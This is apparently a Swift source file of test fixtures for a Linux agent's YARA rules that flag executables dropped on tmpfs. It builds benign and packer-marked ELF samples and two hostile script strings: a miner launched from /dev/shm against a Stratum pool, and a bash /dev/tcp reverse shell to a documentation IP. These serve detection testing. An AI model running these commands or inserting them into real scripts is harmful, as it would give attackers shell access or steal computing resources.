// shmwarden — Linux host agent for executables dropped on tmpfs.
// SPDX-License-Identifier: Apache-2.0

import Foundation

/// The test samples of shmwarden's own YARA rules (`Rules/yara/shmwarden.yar`), built from
/// this host's `/bin/true` and plain text: nothing hostile is stored in the repository.
public enum YaraSamples {
    /// The shipped rules file.
    public static func shippedRules(calledFrom file: String = #filePath) -> String {
        packagePath("Rules/yara/shmwarden.yar", calledFrom: file)
    }

    /// A benign ELF: this host's `/bin/true`, section headers and all.
    public static let benignELF: [UInt8] = Array(FileManager.default.contents(atPath: "/bin/true") ?? Data())

    /// `/bin/true` with its section header table removed from the header (e_shoff, e_shnum and
    /// e_shstrndx zeroed), as packers leave an ELF: it still runs.
    public static var elfWithoutSectionHeaders: [UInt8] {
        var bytes = benignELF
        guard bytes.count > 0x40 else { return bytes }
        for index in 0x28..<0x30 { bytes[index] = 0 }
        for index in 0x3c..<0x40 { bytes[index] = 0 }
        return bytes
    }

    /// An ELF header followed by UPX's packheader magic, section names and notice.
    public static var upxMarkedELF: [UInt8] {
        var bytes = Array(benignELF.prefix(0x40))
        bytes += [UInt8](repeating: 0, count: 0xc0)
        bytes += Array("UPX0\0\0\0\0UPX1\0\0\0\0".utf8)
        bytes += Array("$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n".utf8)
        bytes += Array("UPX!".utf8) + [0x0d, 0x16, 0x08, 0x07]
        bytes += [UInt8](repeating: 0x90, count: 256)
        return bytes
    }

    /// A script that starts a miner against a Stratum pool.
    public static let minerScript = Array(
        "#!/bin/sh\ncd /dev/shm && ./kworker -o stratum+tcp://pool.example.org:3333 -u 4A1b2C3d --donate-level 1\n".utf8
    )

    /// A script holding the classic bash reverse shell.
    public static let reverseShellScript = Array("#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".utf8)

    /// A benign script.
    public static let benignScript = Array("#!/bin/sh\necho hello from a cron job\nexit 0\n".utf8)
}
